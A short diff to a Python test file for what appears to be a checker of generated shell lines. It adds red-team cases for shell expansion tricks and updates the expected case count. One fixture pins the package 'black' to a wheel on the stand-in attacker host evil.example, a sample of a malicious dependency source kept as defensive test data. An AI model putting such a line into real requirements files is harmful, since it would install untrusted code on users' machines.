@@ -40,9 +40,10 @@ def test_generated_shell_line(case):
 
 
 def test_the_fixture_is_there_and_refuses_and_allows():
-    # 300 generated lines, 150 of red team 12's fragments, 13 with command substitutions
+    # 300 generated lines, 150 of red team 12's fragments, 13 with command substitutions, 15
+    # of red team 13 (arithmetic, heredoc bodies the shell expands, alias values, trap actions)
     outcomes = {tuple(c["rules"]) for c in CASES}
-    assert len(CASES) == 463 and () in outcomes and ("install-unreadable",) in outcomes
+    assert len(CASES) == 478 and () in outcomes and ("install-unreadable",) in outcomes
 
 
 URL_LINE = "black @ https://evil.example/black-1.0-py3-none-any.whl\n"
